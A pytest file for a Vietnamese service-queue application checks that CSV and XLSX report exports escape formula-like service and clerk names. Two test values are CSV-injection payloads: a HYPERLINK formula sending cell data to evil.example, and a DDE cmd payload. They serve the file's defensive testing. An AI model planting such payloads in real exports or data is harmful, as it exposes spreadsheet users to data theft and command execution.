"""Report exports never carry a live formula (OWASP "CSV injection").

Names in a report are typed by people. A service or clerk whose name starts with =, +, -, @,
tab or CR must reach the manager's spreadsheet as the text that was typed — escaped with a
leading ``'`` — while counts and times stay numbers the spreadsheet can add up."""
from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from server.domain.reports import inert_text
from tests.support.demo import MONDAY_9AM, login

EVIL_SERVICE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem chi tiết")'
EVIL_CLERK = "@SUM(1+1)*cmd|' /C calc'!A0"
DAY = {"center_id": 1, "period": "day", "date": MONDAY_9AM.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()}


@pytest.fixture
def served_under_evil_names(app):
    """Service 1 and clerk quay1 renamed by an admin, then one citizen served at counter 1."""
    admin = app.test_client()
    csrf = login(admin, "admin")
    assert admin.patch("/api/v1/admin/services/1", json={"name": EVIL_SERVICE}, headers={"X-CSRF-Token": csrf}).status_code == 200
    quay1 = next(u for u in admin.get("/api/v1/admin/users").get_json() if u["username"] == "quay1")
    assert admin.patch(f"/api/v1/admin/users/{quay1['id']}", json={"full_name": EVIL_CLERK},
                       headers={"X-CSRF-Token": csrf}).status_code == 200
    assert app.test_client().post("/api/v1/tickets", json={"center_id": 1, "service_id": 1}).status_code == 201  # a citizen
    clerk = app.test_client()
    csrf = login(clerk, "quay1")
    for action in ("call-next", "start", "finish"):
        assert clerk.post(f"/api/v1/counters/1/{action}", headers={"X-CSRF-Token": csrf}).status_code == 200, action
    login(admin, "giamsat")
    return admin


def csv_rows(client, table: str) -> list[dict[str, str]]:
    response = client.get("/api/v1/reports/export", query_string={**DAY, "format": "csv", "table": table})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_csv_export_writes_formula_like_names_as_inert_text(served_under_evil_names):
    by_service = csv_rows(served_under_evil_names, "by_service")
    row = next(r for r in by_service if "HYPERLINK" in r["Lĩnh vực / dịch vụ / Service"])
    assert row["Lĩnh vực / dịch vụ / Service"] == "'" + EVIL_SERVICE
    assert row["Đã phát / Issued"] == "1"  # a count is written as a plain number, not escaped
    by_clerk = csv_rows(served_under_evil_names, "by_clerk")
    row = next(r for r in by_clerk if r["Tài khoản / Username"] == "quay1")
    assert row["Họ tên / Full name"] == "'" + EVIL_CLERK
    assert row["Đã phục vụ / Served"] == "1"


def test_xlsx_export_writes_formula_like_names_as_text_and_numbers_as_numbers(served_under_evil_names):
    response = served_under_evil_names.get("/api/v1/reports/export", query_string={**DAY, "format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula anywhere

    service = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert service.data_type == "s" and service.value == "'" + EVIL_SERVICE
    clerk = next(c for c in cells if isinstance(c.value, str) and "cmd|" in c.value)
    assert clerk.data_type == "s" and clerk.value == "'" + EVIL_CLERK

    sheet = book["Theo cán bộ"]
    header = [c.value for c in sheet[2]]
    line = next(row for row in sheet.iter_rows(min_row=3) if row[header.index("Tài khoản")].value == "quay1")
    served = line[header.index("Đã phục vụ")]
    assert served.data_type == "n" and served.value == 1


@pytest.mark.parametrize("typed", ["=1+1", "+84912345678", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_escaped(typed):
    assert inert_text(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Tư pháp", "Quầy 1", "2026-11-23", "", "Nguyễn Văn A - tổ 2"])
def test_ordinary_text_is_left_as_typed(typed):
    assert inert_text(typed) == typed

